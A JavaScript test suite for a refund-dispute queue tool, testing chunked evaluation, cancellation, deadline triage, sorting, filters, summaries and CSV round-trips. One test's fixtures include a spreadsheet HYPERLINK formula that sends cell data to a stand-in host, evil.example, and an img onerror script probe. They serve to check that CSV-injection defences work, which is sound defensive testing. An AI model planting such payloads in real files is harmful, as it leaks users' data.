// The queue's evaluation driver (chunks, progress, cancel), triage (deadlines, sort, filters,
// search, summary), export and re-import, and the generator.
import { test } from "node:test";
import assert from "node:assert/strict";
import Papa from "papaparse";
import {
  REFUSED,
  exportCsv,
  filterEntries,
  importCsv,
  nearestDeadline,
  lastPassedDeadline,
  runQueue,
  sortEntries,
  summarise,
  tableFromItems,
  triage,
  neutralise,
  unneutralise,
} from "../../queue/index.js";
import { generateItems } from "../../queue/generate.js";
import { engine, evaluateHere } from "./engine.mjs";

const AS_OF = "2026-06-01";
const generated = tableFromItems(generateItems(1000, { badEvery: 50, asOf: AS_OF }));

test("chunks: every row once, in order, progress after each chunk, the same answers as one batch", async () => {
  const calls = [];
  const progress = [];
  const results = await runQueue(generated.rows, {
    asOf: AS_OF,
    chunkSize: 128,
    evaluate: async (items) => (calls.push(items.length), evaluateHere(items)),
    onProgress: ({ done, total }) => progress.push([done, total]),
  });
  assert.deepEqual(calls, [...Array(7).fill(128), 104]);
  assert.deepEqual(progress.map(([done]) => done), [128, 256, 384, 512, 640, 768, 896, 1000]);
  assert.ok(progress.every(([, total]) => total === 1000));
  const whole = engine.evaluateDisputes(generated.rows.map((r) => ({ ...r.input, asOf: AS_OF })), { text: false });
  assert.deepEqual(results.map((r) => r.ok), whole.map((r) => r.ok));
  assert.deepEqual(results.filter((r) => r.ok).map((r) => r.value), whole.filter((r) => r.ok).map((r) => r.value));
  // The generator's refused rows are exactly every 50th, refused for the delivery before shipment.
  const refused = results.flatMap((r, i) => (r.ok ? [] : [[i, r.error.code, r.error.field]]));
  assert.deepEqual(refused, Array.from({ length: 20 }, (_, k) => [50 * k + 49, "date_order", "dates.delivered"]));
});

test("cancel between chunks: no further chunk is sent and the run rejects with the signal's reason", async () => {
  const controller = new AbortController();
  let calls = 0;
  const run = runQueue(generated.rows, {
    asOf: AS_OF,
    chunkSize: 100,
    signal: controller.signal,
    evaluate: async (items) => (calls++, evaluateHere(items)),
    onProgress: ({ done }) => done === 300 && controller.abort(),
  });
  await assert.rejects(run, (e) => e.name === "AbortError");
  assert.equal(calls, 3);
});

test("cancel while a chunk is being evaluated rejects at once, without waiting for it", async () => {
  const controller = new AbortController();
  const never = new Promise(() => {});
  const run = runQueue(generated.rows, { asOf: AS_OF, signal: controller.signal, evaluate: () => never });
  setTimeout(() => controller.abort(new Error("stopped by the user")), 10);
  await assert.rejects(run, /stopped by the user/);
  const already = AbortSignal.abort();
  await assert.rejects(runQueue(generated.rows, { signal: already, evaluate: evaluateHere }), (e) => e.name === "AbortError");
});

test("the nearest deadline still ahead: today counts (0 days), yesterday does not; date-times by their own date", () => {
  const deadlines = { a: "2026-05-31", b: "2026-06-03", c: "2026-06-01", d: "2026-06-02T23:00:00+08:00" };
  assert.deepEqual(nearestDeadline(deadlines, "2026-06-01"), { name: "c", date: "2026-06-01", daysLeft: 0 });
  assert.deepEqual(nearestDeadline(deadlines, "2026-06-02"), { name: "d", date: "2026-06-02T23:00:00+08:00", daysLeft: 0 });
  assert.deepEqual(nearestDeadline(deadlines, "2026-06-03T09:00:00+08:00"), { name: "b", date: "2026-06-03", daysLeft: 0 });
  assert.equal(nearestDeadline(deadlines, "2026-06-04"), null);
  assert.deepEqual(nearestDeadline({ x: "2026-12-31" }, "2026-06-01").daysLeft, 213);
  // With none ahead, the latest one passed is what the list shows (in red): yesterday is -1.
  assert.deepEqual(lastPassedDeadline(deadlines, "2026-06-04"), { name: "b", date: "2026-06-03", daysLeft: -1 });
  assert.deepEqual(lastPassedDeadline(deadlines, "2026-06-01"), { name: "a", date: "2026-05-31", daysLeft: -1 });
  assert.equal(lastPassedDeadline(deadlines, "2026-05-31"), null, "today is not passed");
});

// A small hand-made queue with known results, through the real engine.
const small = importCsv(
  [
    "orderId,ruleset,reason,currency,price,tracking,dates.ordered,dates.shipped,dates.delivered,dates.opened,asOf,note",
    "T-3,taobao,no_reason,CNY,199.00,delivered,2026-05-20,2026-05-21,2026-05-29,2026-05-31,,seven days",
    "A-1,aliexpress,not_received,USD,25.99,in_transit,2026-05-01,2026-05-02,,2026-05-30,,late parcel",
    "t-10,taobao,no_reason,CNY,1299.00,delivered,2026-05-18,2026-05-19,2026-05-26,2026-05-31,,",
    "X-9,aliexpress,not_received,USD,1,,2026-05-01,2026-05-02,2026-04-01,,,bad dates",
    "J-2,amazon,damaged_in_transit,JPY,5000,delivered,2026-05-01,2026-05-02,2026-05-10,2026-05-31,,",
    "O-5,taobao,no_reason,CNY,10.00,delivered,2026-04-01,2026-04-02,2026-04-05,2026-04-07,2026-04-07,own as-of",
  ].join("\n"),
);
const smallResults = await runQueue(small.rows, { asOf: AS_OF, evaluate: evaluateHere });
const entries = triage(small.rows, smallResults, { asOf: AS_OF });
const ids = (list) => list.map((e) => e.id);

test("triage entries: outcome, refund, fault, nearest deadline from the row's own as-of, first failed check", () => {
  const byId = Object.fromEntries(entries.map((e) => [e.id, e]));
  assert.equal(byId["X-9"].outcome, REFUSED);
  assert.deepEqual([byId["X-9"].error.code, byId["X-9"].error.field, byId["X-9"].ruleset], ["date_order", "dates.delivered", "aliexpress"]);
  assert.deepEqual([byId["T-3"].outcome, byId["T-3"].refund, byId["T-3"].deadline], ["return_refund", 19900, { name: "returnWindowLastDay", date: "2026-06-05", daysLeft: 4 }]);
  // O-5 is decided as of its own 2026-04-07: the window ends 2026-04-12, 5 days ahead of it.
  assert.deepEqual(byId["O-5"].deadline, { name: "returnWindowLastDay", date: "2026-04-12", daysLeft: 5 });
  const failing = entries.find((e) => e.failedCheck);
  const value = smallResults[small.rows.indexOf(failing.row)].value;
  assert.deepEqual(failing.failedCheck.id, value.checks.find((c) => !c.passed).id);
});

test("sort by urgency (nearest deadline first, refused next, then no deadline) and by any column", () => {
  const urgent = sortEntries(entries);
  const withDeadline = urgent.filter((e) => e.deadline);
  assert.deepEqual(withDeadline.map((e) => e.deadline.daysLeft), [...withDeadline.map((e) => e.deadline.daysLeft)].sort((a, b) => a - b));
  assert.equal(urgent[withDeadline.length].outcome, REFUSED);
  // Ids compare as people read them: t-10 after T-3.
  assert.deepEqual(ids(sortEntries(entries, { key: "id" })), ["A-1", "J-2", "O-5", "T-3", "t-10", "X-9"]);
  assert.deepEqual(ids(sortEntries(entries, { key: "id", descending: true })), ["X-9", "t-10", "T-3", "O-5", "J-2", "A-1"]);
  // Refunds compare in units across currencies: 5000 JPY > 1299.00 CNY > 199.00 CNY; no refund last.
  const byRefund = sortEntries(entries, { key: "refund", descending: true }).filter((e) => e.refund);
  assert.deepEqual(byRefund.slice(0, 3).map((e) => [e.refund, e.currency]), [[5000, "JPY"], [129900, "CNY"], [19900, "CNY"]]);
  assert.equal(sortEntries(entries, { key: "refund", descending: true }).at(-1).refund, null);
  // A column of the file: the note, empty notes last in either direction.
  assert.deepEqual(ids(sortEntries(entries, { key: "note", headers: small.headers })).slice(0, 2), ["X-9", "A-1"]);
  assert.deepEqual(sortEntries(entries, { key: "note", headers: small.headers, descending: true }).map((e) => e.row.extras.note).slice(-2), ["", ""]);
});

test("filters: outcome, ruleset, due within N days (N included, N+1 not); search on the order id", () => {
  assert.deepEqual(ids(filterEntries(entries, { outcomes: [REFUSED] })), ["X-9"]);
  assert.deepEqual(ids(filterEntries(entries, { rulesets: ["taobao"] })), ["T-3", "t-10", "O-5"]);
  const t3 = entries.find((e) => e.id === "T-3").deadline.daysLeft;
  assert.ok(ids(filterEntries(entries, { dueWithinDays: t3 })).includes("T-3"));
  assert.ok(!ids(filterEntries(entries, { dueWithinDays: t3 - 1 })).includes("T-3"));
  assert.deepEqual(ids(filterEntries(entries, { search: "t-" })), ["T-3", "t-10"]);
  assert.deepEqual(ids(filterEntries(entries, { search: " T-1 ", rulesets: ["taobao"] })), ["t-10"]);
  assert.equal(filterEntries(entries, {}).length, entries.length);
});

test("summary: counts by outcome, exact refund totals per currency, deadlines per day over 14 days", () => {
  const summary = summarise(entries, { asOf: AS_OF });
  assert.equal(summary.rows, 6);
  assert.equal(summary.refused, 1);
  assert.equal(Object.values(summary.byOutcome).reduce((a, b) => a + b, 0), 6);
  const cny = entries.filter((e) => e.currency === "CNY" && e.refund !== null).reduce((a, e) => a + e.refund, 0);
  assert.deepEqual(summary.refundTotals.find((t) => t.currency === "CNY"), { currency: "CNY", minor: BigInt(cny), amount: (cny / 100).toFixed(2) });
  assert.equal(summary.dueByDay.length, 14);
  assert.deepEqual([summary.dueByDay[0].date, summary.dueByDay[13].date], ["2026-06-01", "2026-06-14"]);
  // Day 13 is counted, day 14 is not.
  const fake = [{ outcome: "wait", refund: 0, currency: "USD", deadlines: { a: "2026-06-14", b: "2026-06-15", c: "2026-05-31" } }];
  assert.deepEqual(summarise(fake, { asOf: AS_OF }).dueByDay.map((d) => d.count), [...Array(13).fill(0), 1]);
  // Totals stay exact past 2^53 minor units.
  const big = Array.from({ length: 3 }, () => ({ outcome: "refund_full", refund: Number.MAX_SAFE_INTEGER, currency: "USD", deadlines: {} }));
  assert.equal(summarise(big, { asOf: AS_OF }).refundTotals[0].minor, 3n * BigInt(Number.MAX_SAFE_INTEGER));
});

test("export: BOM, the file's columns then outcome, refund in units, fault, every deadline, rules, errors", () => {
  const text = exportCsv(small, smallResults);
  assert.ok(text.startsWith("\uFEFF"));
  const [head, ...rows] = Papa.parse(text.slice(1), { skipEmptyLines: true }).data;
  assert.deepEqual(head.slice(0, small.headers.length), small.headers);
  for (const name of ["result.outcome", "result.refund", "result.fault", "result.rules", "result.failedCheck", "error.code", "error.field", "error.message"]) {
    assert.ok(head.includes(name), name);
  }
  const names = new Set(smallResults.flatMap((r) => (r.ok ? Object.keys(r.value.deadlines) : [])));
  assert.deepEqual(head.filter((h) => h.startsWith("result.deadlines.")).map((h) => h.slice(17)).sort(), [...names].sort());
  const col = (name) => head.indexOf(name);
  const t3 = rows.find((r) => r[0] === "T-3");
  assert.deepEqual([t3[col("result.outcome")], t3[col("result.refund")], t3[col("result.deadlines.returnWindowLastDay")]], ["return_refund", "199.00", "2026-06-05"]);
  const j2 = rows.find((r) => r[0] === "J-2");
  assert.match(j2[col("result.refund")], /^\d+$/, "JPY has no decimals");
  const x9 = rows.find((r) => r[0] === "X-9");
  assert.deepEqual([x9[col("result.outcome")], x9[col("error.code")], x9[col("error.field")]], ["", "date_order", "dates.delivered"]);
});

test("export then import gives the same rows, for a 1,000-row queue and the small one", async () => {
  for (const table of [generated, small]) {
    const results = await runQueue(table.rows, { asOf: AS_OF, evaluate: evaluateHere });
    const again = importCsv(new TextEncoder().encode(exportCsv(table, results)));
    assert.equal(again.encoding, "utf-8-bom");
    assert.deepEqual(again.headers, table.headers);
    assert.deepEqual(again.rows, table.rows);
  }
});

test("formula and markup notes are exported inert and come back as they were", () => {
  const notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR", "'=already quoted", '<img src=x onerror="alert(1)">', "-12.50", "+86 138"];
  const items = notes.map((note, i) => ({ orderId: `N${i}`, ruleset: "taobao", reason: "no_reason", currency: "CNY", price: 100, note }));
  const table = tableFromItems(items);
  assert.deepEqual(table.rows.map((r) => r.extras.note), notes, "the items' notes are read back unchanged");
  const text = exportCsv(table, table.rows.map(() => undefined));
  const [, ...cells] = Papa.parse(text.slice(1)).data;
  const exported = cells.filter((r) => r.length > 1).map((r) => r[table.headers.indexOf("note")]);
  const formulaStart = /^[=+\-@\t\r]/;
  // Every cell a spreadsheet would run is quoted; a number stays a number.
  for (const cell of exported) assert.ok(!formulaStart.test(cell) || cell === "-12.50", JSON.stringify(cell));
  assert.equal(exported[0], `'${notes[0]}`);
  assert.equal(exported[6], "''=already quoted");
  assert.equal(exported[8], "-12.50", "a number is not quoted");
  assert.equal(exported[2], "'-2+3", "a formula that starts like a number is");
  assert.equal(exported[7], notes[7], "markup is text in a CSV; the list shows it as text");
  assert.equal(exported[9], "'+86 138", "a phone number with a space is not a number");
  assert.deepEqual(importCsv(text).rows.map((r) => r.extras.note), notes);
  for (const note of notes) assert.equal(unneutralise(neutralise(note)), note);
});

test("the generator: the same seed gives the same queue, both locales, several rulesets", () => {
  assert.deepEqual(generateItems(50, { seed: 7 }), generateItems(50, { seed: 7 }));
  assert.notDeepEqual(generateItems(50, { seed: 7 }), generateItems(50, { seed: 8 }));
  const items = generateItems(100);
  assert.deepEqual(new Set(items.map((i) => i.locale)), new Set(["en", "zh-CN"]));
  assert.ok(new Set(items.map((i) => i.ruleset)).size >= 5);
  assert.equal(new Set(items.map((i) => i.orderId)).size, 100);
});

test("items (the element's property): the engine judges the item as given; id and extras stay out of it", async () => {
  const items = [
    { orderId: "I-1", note: "keep me", ruleset: "taobao", reason: "no_reason", currency: "CNY", price: 19900, dates: { delivered: "2026-05-30" } },
    { orderId: "I-2", ruleset: "taobao", reason: "no_reason", currency: "CNY", price: 12.5, dates: { delivered: "2026-05-30" } },
    null,
  ];
  const table = tableFromItems(items);
  assert.deepEqual(table.rows.map((r) => r.id), ["I-1", "I-2", ""]);
  assert.deepEqual(table.rows[0].input, { ruleset: "taobao", reason: "no_reason", currency: "CNY", price: 19900, dates: { delivered: "2026-05-30" } });
  assert.deepEqual(table.rows[0].extras, { note: "keep me" });
  const results = await runQueue(table.rows, { asOf: AS_OF, evaluate: evaluateHere });
  assert.equal(results[0].value.refund, 19900);
  assert.deepEqual([results[1].error.code, results[1].error.field], ["invalid_amount", "price"], "12.5 minor units is not 12.50 yuan");
  assert.deepEqual([results[2].error.code, results[2].error.field], ["invalid_type", ""]);
  // A valid item's export reads back to the same input.
  const again = importCsv(exportCsv(table, results));
  assert.deepEqual(again.rows[0].input, table.rows[0].input);
  assert.equal(again.headers[table.headers.indexOf("price")], "price");
  assert.equal(again.rows[0].cells[table.headers.indexOf("price")], "199.00");
});

test("export in another order (the most urgent first): the same columns and rows, in that order", async () => {
  const results = await runQueue(generated.rows, { asOf: AS_OF, evaluate: evaluateHere });
  const urgent = sortEntries(triage(generated.rows, results, { asOf: AS_OF }));
  const [head, ...rows] = Papa.parse(exportCsv(generated, results).slice(1), { skipEmptyLines: true }).data;
  const [urgentHead, ...urgentRows] = Papa.parse(exportCsv(generated, results, { order: urgent.map((e) => e.index) }).slice(1), { skipEmptyLines: true }).data;
  assert.deepEqual(urgentHead, head, "the columns do not depend on the order");
  assert.deepEqual(urgentRows, urgent.map((e) => rows[e.index]));
  assert.deepEqual(urgentRows.map((r) => r[0]), urgent.map((e) => e.id));
});
